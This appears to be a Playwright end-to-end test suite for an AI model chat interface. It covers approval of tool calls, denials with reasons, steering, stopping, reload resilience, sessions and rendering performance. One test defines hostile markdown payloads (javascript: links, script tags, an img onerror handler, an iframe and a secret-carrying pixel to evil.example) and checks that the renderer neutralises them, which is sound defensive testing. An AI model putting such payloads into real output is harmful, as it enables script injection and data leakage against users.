// Journey: the assistant is asked, looks, asks back and acts after a yes; what it says streams, is steered, stopped and said anew; a reload loses no word.
// The model is scripted, everything else is real.
import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { overflow } from '../support/console-page.ts';
import { slowness, workOf } from '../support/frame-cost.ts';
import {
  answers,
  CODER,
  calls,
  card,
  composer,
  ended,
  expect,
  idOf,
  loads,
  looks,
  newChat,
  pulls,
  say,
  says,
  test,
} from '../support/talking.ts';

interface Box {
  scrollTop: number;
  readonly scrollWidth: number;
  readonly clientWidth: number;
}

const words = (text: string): string[] => text.match(/\S+\s*/g) ?? [];

test('looks before it answers: what was done, what the gates said, and how it went over time', async ({
  talk,
  talking,
}) => {
  const chat = await talk();
  const { page, expectAccessible } = chat;
  await newChat(chat);
  await expectAccessible('before the first word');
  talking.script(
    { ...calls(['query', { action: 'list', kind: 'model' }]), thinking: 'I look first.' },
    says('There are ', '**several** models:\n\n', '- `llava:7b`\n', '- others\n'),
  );
  await say(page, 'Which models are there?');
  await expect(ended(page)).toContainText('Answered');
  await expect(page).toHaveURL(/#\/chat\/.+/);
  const call = page.locator('[data-call]');
  await expect(page.locator('[data-run-record]')).toContainText('Looked at the list of resources (');
  await expect(call).toContainText('List what there is');
  await expect(call).toContainText('done');
  await expect(answers(page).last().getByRole('listitem')).toHaveCount(2);
  await expect(page.locator('[data-ended-aloud]')).toContainText('The assistant answered: There are');
  await call.locator('summary').first().press('Enter');
  await expect(call.locator('[data-verdict=passed]').first()).toContainText('passed');
  await expect(call.locator('[data-result]')).toContainText('llava:7b');
  await expect(call.locator('[data-outside]')).toContainText('nobody here vouches for them');
  await page.locator('[data-fold=thinking] summary').click();
  await expect(answers(page).first()).toContainText('I look first.');
  await ended(page).locator('summary').click();
  await expect(page.locator('[data-trace] li')).toHaveCount(3);
  await expectAccessible('an answer, all unfolded');
  await page.getByRole('radio', { name: 'Table' }).press('Enter');
  await expect(page.locator('[data-trace] tbody tr')).toHaveCount(3);
  await expect(page.locator('[data-figures]')).toContainText('tokens');
});

test('acts only after a yes, by keyboard alone, in place, and the card is the one of Approvals', async ({
  talk,
  talking,
}) => {
  const id = await idOf(talking.festinger, CODER);
  const chat = await talk();
  const { page, expectAccessible } = chat;
  await newChat(chat);
  talking.script(looks(CODER), loads(id), says('It is loaded.'));
  await say(page, `Load ${CODER}`);
  await expect(card(page)).toHaveAttribute('data-approval', 'pending');
  await expect(page.locator('[data-session] [data-mark=approval]')).toContainText('waits for you');
  await expect(page.locator('[data-waits=approvals]')).toContainText('1');
  await expectAccessible('a card within the conversation');
  await expect(composer(page)).toBeFocused();
  await page.keyboard.press('Control+j');
  await expect(page.locator('[data-chat-card]')).toBeFocused();
  await page.keyboard.press('a');
  await expect(page.locator('[data-approve] button')).toBeFocused();
  await page.waitForTimeout(600);
  await page.keyboard.press('a');
  await expect(page.locator('[data-verified=yes]')).toBeVisible();
  await expect(answers(page).last()).toContainText('It is loaded.');
  await expect(page.locator('[data-call]').last()).toContainText(`Load ${CODER}`);
  await expect(page.locator('[data-call]').last()).toContainText('done');
  await chat.go('approvals?view=history');
  await page.getByRole('row').filter({ hasText: CODER }).first().click();
  await page.getByRole('link', { name: 'in a session of the assistant' }).click();
  await expect(answers(page).last()).toContainText('It is loaded.');
});

test('a no and its reason reach the model', async ({ talk, talking }) => {
  const id = await idOf(talking.festinger, 'gpt-oss:20b');
  const chat = await talk();
  const { page } = chat;
  await newChat(chat);
  talking.script(looks('gpt-oss:20b'), loads(id), says('Then I leave it. It is loaded and running.'));
  await say(page, 'Load the large one');
  await card(page).waitFor();
  await page.keyboard.press('Control+j');
  await page.keyboard.press('d');
  await page.getByRole('form', { name: 'Why not?' }).getByRole('textbox').fill('It does not fit here');
  await page.keyboard.press('Enter');
  await expect(answers(page).last()).toContainText('Then I leave it.');
  expect(talking.lastSent()).toContain('Command denied: It does not fit here');
  const first = page.locator('[data-run-record] li').first();
  await expect(first).toHaveAttribute('data-outcome', 'denied');
  await expect(first).toContainText('Denied: Load the model gpt-oss:20b · It does not fit here');
  talking.script(says('All is well.'));
  await say(page, 'And now?');
  await expect(page.locator('[data-run-record]').last()).toContainText('No tools were used');
  await expect(page.locator('[data-call]').last()).toContainText('Command denied: It does not fit here');
});

test('what is asked for is changed before it runs', async ({ talk, talking }) => {
  const id = await idOf(talking.festinger, 'llama3.2:3b');
  const chat = await talk();
  const { page } = chat;
  await newChat(chat);
  talking.script(looks('llama3.2:3b'), loads(id, { keep_alive: '7m' }), says('Loaded.'));
  await say(page, 'Load it for seven minutes');
  await card(page).waitFor();
  await page.locator('[data-edit] button').click();
  await page.getByLabel('How long it stays loaded').fill('3m');
  await page.getByRole('button', { name: 'Save as a new card' }).click();
  await expect(card(page).locator('[data-instead]')).toBeVisible();
  await expect(card(page).locator('[data-runs]')).toContainText('3m');
  await page.waitForTimeout(600);
  await page.locator('[data-approve] button').click();
  await expect(answers(page).last()).toContainText('Loaded.');
  expect(talking.lastSent()).toContain('3m');
});

test('a rule lets the same happen without asking, until it is revoked', async ({ talk, talking }) => {
  const id = await idOf(talking.festinger, 'nomic-embed-text:latest');
  const chat = await talk();
  const { page } = chat;
  await newChat(chat);
  talking.script(looks('nomic-embed-text:latest'), pulls(id), says('First done.'));
  await say(page, 'Pull it');
  await card(page).waitFor();
  await page.locator('[data-rule] button').click();
  await page.getByRole('button', { name: 'Make the rule' }).click();
  await page.waitForTimeout(600);
  await page.locator('[data-approve] button').click();
  await expect(answers(page).last()).toContainText('First done.');
  talking.script(looks('nomic-embed-text:latest'), pulls(id), says('Second done.'));
  await say(page, 'Pull it again');
  await expect(answers(page).last()).toContainText('Second done.');
  const session = new URL(page.url()).hash;
  await chat.go('approvals?view=rules');
  await page
    .getByRole('button', { name: /^Revoke/ })
    .first()
    .click();
  await expect(page.getByText('Revoked: it is asked again')).toBeVisible();
  await chat.go(session.slice(2));
  talking.script(looks('nomic-embed-text:latest'), pulls(id), says('Third done.'));
  await say(page, 'And again');
  await expect(card(page).last()).toHaveAttribute('data-approval', 'pending');
  await page.keyboard.press('Escape');
  await expect(ended(page).last()).toContainText('Stopped');
});

test('is steered while it works, and stopped with Esc', async ({ talk, talking }) => {
  const chat = await talk();
  const { page } = chat;
  await newChat(chat);
  const held = Promise.withResolvers<void>();
  talking.script(
    { ...calls(['query', { action: 'list' }]), hold: held.promise },
    says('With the colour you said.'),
  );
  await say(page, 'Paint it');
  await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
  await composer(page).fill('in blue');
  await composer(page).press('Enter');
  await expect(page.getByRole('list', { name: 'Handed over at its next turn' })).toContainText('in blue');
  held.resolve();
  await expect(answers(page).last()).toContainText('With the colour you said.');
  expect(talking.lastSent()).toContain('in blue');
  await expect(page.locator('[data-steering=true]')).toContainText('in blue');
  await expect(page.getByRole('list', { name: 'Handed over at its next turn' })).toHaveCount(0);
  const never = Promise.withResolvers<void>();
  // Ends in what begins no secret: a piece that may be one is held back until more is there.
  talking.script({ text: 'It begins. ', holdEnd: never.promise });
  await say(page, 'Go on for ever');
  await expect(answers(page).last()).toContainText('It begins');
  await page.keyboard.press('Escape');
  await expect(ended(page).last()).toContainText('Stopped');
  await expect(answers(page).last()).toContainText('The answer broke off here.');
  never.resolve();
});

test('a reload in the middle loses no word and doubles none, and two windows stay equal', async ({
  talk,
  talking,
}) => {
  const chat = await talk();
  const { page } = chat;
  await newChat(chat);
  const text = Array.from({ length: 60 }, (_, at) => `word${at} `);
  talking.script({ text, pieceMs: 80 });
  await say(page, 'Count');
  await expect(answers(page).last()).toContainText('word9 ');
  await page.reload();
  await expect(answers(page).last()).toContainText('word12 ');
  const second = await talk();
  await second.go(new URL(page.url()).hash.slice(2));
  await expect(ended(page)).toBeVisible({ timeout: 20_000 });
  await expect(ended(second.page)).toBeVisible();
  const whole = text.join('').trim();
  for (const window of [page, second.page]) {
    const shown = await window.locator('[data-entry=answer] p').allTextContents();
    expect(shown.join('').trim()).toBe(whole);
  }
  await say(second.page, 'Once more');
  await expect(page.locator('[data-entry=user]').last()).toContainText('Once more');
});

test('names things while one types, keeps them through edits, and sends them as what they are', async ({
  talk,
  talking,
}) => {
  const chat = await talk();
  const { page, expectAccessible } = chat;
  await newChat(chat);
  await composer(page).pressSequentially('Why is @llava');
  const option = page.getByRole('option').first();
  await expect(option).toContainText('llava:7b');
  await expect(composer(page)).toHaveAttribute('aria-activedescendant', /.+/);
  await expectAccessible('names to choose from');
  await page.keyboard.press('Enter');
  await expect(composer(page)).toHaveValue('Why is @llava:7b ');
  await page.keyboard.type('slow?');
  await page.keyboard.press('Home');
  await page.keyboard.type('Say: ');
  await expect(page.locator('mark')).toHaveText('@llava:7b');
  talking.script(says('It is large.'));
  await page.keyboard.press('Enter');
  await expect(page.locator('[data-entry=user] a')).toHaveText('@llava:7b');
  await expect(page.locator('[data-entry=context]')).toContainText('Looked at llava:7b');
  await page.locator('[data-fold=context] summary').click();
  await expect(page.locator('[data-fold=context] pre')).toContainText('llava:7b');
});

test('asks back, with answers to choose from', async ({ talk, talking }) => {
  const chat = await talk();
  const { page, expectAccessible } = chat;
  await newChat(chat);
  talking.script(
    calls(['query', { action: 'list', kind: 'model' }]),
    calls(['question', { question: 'Which one?', options: ['The small one', 'The large one'] }]),
    says('The small one it is.'),
  );
  await say(page, 'Take a model');
  await expect(page.locator('[data-entry=question]')).toContainText('Which one?');
  await expectAccessible('a question');
  await page.keyboard.press('Control+j');
  await expect(page.getByRole('button', { name: 'The small one' })).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(answers(page).last()).toContainText('The small one it is.');
  await expect(page.locator('[data-entry=question]')).toContainText('You answered: The small one');
});

test('says it again, or otherwise; and what is typed outlives a reload', async ({ talk, talking }) => {
  const chat = await talk();
  const { page } = chat;
  await newChat(chat);
  talking.script(says('First answer.'), says('Second answer.'), says('Third answer.'));
  await say(page, 'Tell me');
  await expect(answers(page)).toContainText('First answer.');
  await page.locator('[data-entry=user]').hover();
  await page.getByRole('button', { name: 'Take back and say again' }).click();
  await expect(answers(page)).toContainText('Second answer.');
  await expect(answers(page)).toHaveCount(1);
  await expect(ended(page)).toBeVisible();
  await page.locator('[data-entry=user]').hover();
  await page.getByRole('button', { name: 'Take back and edit' }).click();
  await expect(composer(page)).toHaveValue('Tell me');
  await expect(composer(page)).toBeFocused();
  await page.keyboard.type(' more');
  await page.reload();
  await expect(composer(page)).toHaveValue('Tell me more');
  await composer(page).press('Enter');
  await expect(answers(page)).toContainText('Third answer.');
  await page.reload();
  await expect(answers(page)).toContainText('Third answer.');
  await expect(composer(page)).toHaveValue('');
});

test('commands are typed, offered and told when they are none', async ({ talk }) => {
  const chat = await talk();
  const { page, expectAccessible } = chat;
  await newChat(chat);
  await composer(page).pressSequentially('/re');
  await expect(page.getByRole('option')).toHaveText([/\/retry/, /\/readonly/]);
  await expectAccessible('commands to choose from');
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await expect(composer(page)).toHaveValue('/readonly');
  await page.keyboard.type(' on');
  await page.keyboard.press('Enter');
  await expect(page.locator('[data-read-only=true]')).toBeVisible();
  await page.getByRole('button', { name: 'Read only' }).click();
  await expect(page.locator('[data-read-only=false]')).toBeVisible();
  await composer(page).fill('/nothing');
  await composer(page).press('Enter');
  await expect(page.getByRole('alert')).toContainText('There is no command /nothing');
  await composer(page).fill('/help');
  await composer(page).press('Enter');
  await expect(page.getByRole('dialog', { name: 'In the composer' })).toBeVisible();
  await expectAccessible('help');
});

test('what is typed right behind a chosen command stands behind it, however late the next drawing', async ({
  talk,
}) => {
  const chat = await talk();
  const { page } = chat;
  await newChat(chat);
  await page.evaluate(
    "window.requestAnimationFrame = (draw) => setTimeout(() => { draw(performance.now()); document.body.dataset.drawn = 'late'; }, 300)",
  );
  await composer(page).pressSequentially('/reado');
  await page.keyboard.press('Enter');
  await page.keyboard.type(' o');
  await page.evaluate('requestAnimationFrame(() => undefined)');
  await expect(page.locator('body[data-drawn=late]')).toBeVisible();
  await page.keyboard.type('n');
  await expect(composer(page)).toHaveValue('/readonly on');
});

test('sessions are found, pinned, renamed, exported and deleted', async ({ talk, talking }) => {
  const chat = await talk();
  const { page, expectAccessible } = chat;
  await newChat(chat);
  talking.script(says('Yes.'));
  await say(page, 'Is the zebra striped?');
  await expect(ended(page)).toBeVisible();
  const menu = page.getByRole('button', { name: 'What to do with this session' });
  await menu.press('Enter');
  await expectAccessible('the menu');
  await page.getByRole('menuitem', { name: 'Rename…' }).press('Enter');
  const field = page.getByRole('textbox', { name: 'Title' });
  await field.fill('About zebras');
  await field.press('Enter');
  await expect(page.locator('[data-chat-title]')).toHaveText('About zebras');
  // The new title may come before the dialog is gone, which has the keyboard until then.
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await menu.press('Enter');
  await page.getByRole('menuitem', { name: 'Pin', exact: true }).press('Enter');
  await expect(page.getByRole('region', { name: 'Pinned' })).toContainText('About zebras');
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    menu.press('Enter').then(() => page.getByRole('menuitem', { name: 'Export as Markdown' }).press('Enter')),
  ]);
  expect(file.suggestedFilename()).toBe('about-zebras.md');
  expect(await readFile(await file.path(), 'utf8')).toContain('Is the zebra striped?');
  const search = page.getByRole('searchbox', { name: 'Search sessions' });
  await search.fill('no such words');
  await expect(page.getByText('No session holds these words.')).toBeVisible();
  await search.fill('zebras');
  await expect(page.locator('[data-session]')).toHaveCount(1);
  await search.fill('');
  await menu.press('Enter');
  await page.getByRole('menuitem', { name: 'Delete…' }).press('Enter');
  await expectAccessible('deleting');
  await page.getByRole('button', { name: 'Delete it' }).press('Enter');
  await expect(page.locator('[data-chat-first]')).toBeVisible();
  await expect(page.locator('[data-session]', { hasText: 'About zebras' })).toHaveCount(0);
});

const HOSTILE = [
  '[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [fine](https://example.com/x)',
  '![beacon](https://evil.example/pixel.png?secret=1)',
  '<script>window.pwned = 1</script><img src="https://evil.example/a.png" onerror="window.pwned=1"><b>bold</b>',
  '<iframe src="https://evil.example"></iframe>',
  `${'> '.repeat(300)}deep`,
  `${'['.repeat(2000)}x${']'.repeat(2000)}`,
  `| ${'column | '.repeat(40)}\n|${'---|'.repeat(40)}\n${`| ${'cell | '.repeat(40)}\n`.repeat(40)}`,
  `\`\`\`\n${'wide '.repeat(400)}\n\`\`\``,
].join('\n\n');

test('hostile words stay words: nothing runs, nothing is fetched, nothing breaks out', async ({
  talk,
  talking,
}) => {
  const chat = await talk();
  const { page, expectAccessible } = chat;
  await newChat(chat);
  talking.script(says(HOSTILE));
  await say(page, 'Show me');
  await expect(ended(page)).toBeVisible({ timeout: 30_000 });
  const answer = answers(page).last();
  expect(await answer.locator('a').evaluateAll((links) => links.map((link) => String(link)))).toEqual([
    'https://example.com/x',
    'https://evil.example/pixel.png?secret=1',
  ]);
  expect(await answer.locator('img, iframe, script, b').count()).toBe(0);
  await expect(answer).toContainText('<iframe src="https://evil.example"></iframe>');
  expect(await page.evaluate('window.pwned')).toBeUndefined();
  expect(await overflow(page)).toBe(0);
  expect(
    await page.locator('[data-transcript]').evaluate((box: Box) => box.scrollWidth - box.clientWidth),
  ).toBe(0);
  await expectAccessible('hostile words');
  await answer.getByRole('link', { name: 'fine' }).click();
  await expect(page.getByRole('dialog', { name: 'Open example.com?' })).toContainText(
    'https://example.com/x',
  );
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toHaveCount(0);
});

/** Claims nothing: what does is replaced. */
const PART = `A container may write to \`/var/lib/data\` and **keep** about 40 % of it in memory; see [the page](https://example.com/a) for how. If it would restart often, a pull could be why.

- first of all
- second, with \`code\`
  - nested

\`\`\`bash
docker ps -a | sort # all of them
\`\`\`

| name | state | size |
|---|---|---:|
| data | in use | 13 MB |
| logs | in use | 26 MB |

`;

/** Pictures that the page is given, over so many milliseconds. */
const framesASecond = (page: Page, ms: number): Promise<number> =>
  page.evaluate<number>(`new Promise((resolve) => {
    let frames = 0;
    const begun = performance.now();
    const step = (now) =>
      now - begun < ${ms} ? requestAnimationFrame(step, frames++) : resolve((frames * 1000) / (now - begun));
    requestAnimationFrame(step);
  })`);

const STRETCH_MS = 2000;

/** Of the 20 ms of 50 Hz, what the page's own thread may take. */
const A_FRAME_MS = 12;

test('an answer of 60 KB at 100 tokens a second stays at 50 frames a second or better', {
  tag: '@timed',
}, async ({ talk, talking }) => {
  test.setTimeout(240_000);
  const chat = await talk();
  const { page } = chat;
  await newChat(chat);
  const head = PART.repeat(Math.ceil(52_000 / PART.length));
  const bound = A_FRAME_MS * (await slowness(page));
  const idle = await framesASecond(page, 1500);
  const tail = words(PART.repeat(120));
  talking.script({ text: [head, ...tail], pieceMs: 10 });
  await say(page, 'Tell all of it');
  await expect(page.locator('[data-state=streaming]')).toContainText('docker ps', { timeout: 60_000 });
  const work = await workOf(page);
  const before = await work.workedMs();
  // Frames that others on this machine take away are no fault of the page: the best of some stretches counts.
  let fps = 0;
  let stretches = 0;
  for (; stretches < 3 || (stretches < 7 && fps < 50); stretches++)
    fps = Math.max(fps, await framesASecond(page, STRETCH_MS));
  const perFrame = ((await work.workedMs()) - before) / ((stretches * STRETCH_MS) / 20);
  console.log(
    `    ${fps.toFixed(1)} frames a second, ${idle.toFixed(1)} without an answer; a fiftieth of a second takes ${perFrame.toFixed(1)} ms of the processor (${bound.toFixed(1)} allowed)`,
  );
  if (idle > 58) expect(fps).toBeGreaterThanOrEqual(50);
  expect(perFrame, 'what the page does fits into a frame of 50 Hz').toBeLessThan(bound);
  await expect(page.locator('[data-transcript]')).toHaveJSProperty('scrollLeft', 0);
  await page.locator('[data-transcript]').hover();
  await page.mouse.wheel(0, -3000);
  await expect(page.getByRole('button', { name: 'Newest' })).toBeVisible();
  const top = () => page.locator('[data-transcript]').evaluate((box: Box) => box.scrollTop);
  const place = await top();
  // Not the text as it is laid out: what is out of sight is not.
  const lengthNow = async () => (await answers(page).last().textContent())?.length ?? 0;
  const length = await lengthNow();
  await expect.poll(lengthNow).toBeGreaterThan(length);
  expect(await top(), 'stays where the reader is').toBe(place);
  await page.getByRole('button', { name: 'Newest' }).click();
  await expect(page.getByRole('button', { name: 'Newest' })).toHaveCount(0);
});

test('says before the first word that nobody can be asked', async ({ open }) => {
  const { page, go, expectAccessible } = await open();
  await go('chat');
  await expect(page.locator('[data-whom=none]')).toContainText('No model is chosen for the assistant');
  await expectAccessible('without a model');
  await page.locator('[data-whom] a').click();
  await expect(page).toHaveURL(/#\/settings\?tab=models/);
});

test('fits a window of 1024 and one of 390, and high contrast', async ({ talk, talking }) => {
  test.slow();
  for (const viewport of [
    { width: 1024, height: 768 },
    { width: 390, height: 844 },
  ]) {
    const chat = await talk({ viewport });
    const { page, expectAccessible } = chat;
    await newChat(chat);
    talking.script(calls(['query', { action: 'list' }]), says(PART));
    await say(page, 'Show me');
    await expect(ended(page)).toBeVisible();
    expect(await overflow(page)).toBe(0);
    await expect(composer(page)).toBeInViewport();
    if (viewport.width < 900) {
      await page.getByRole('button', { name: 'Sessions' }).click();
      await expect(page.getByRole('dialog', { name: 'Sessions' })).toBeVisible();
      await expectAccessible('the list as a sheet');
      await page.keyboard.press('Escape');
    }
    await page.evaluate(`localStorage.setItem('festinger.appearance', '{"contrast":"more"}')`);
    await page.reload();
    await expect(ended(page)).toBeVisible();
    await expectAccessible(`high contrast at ${viewport.width}`);
  }
});
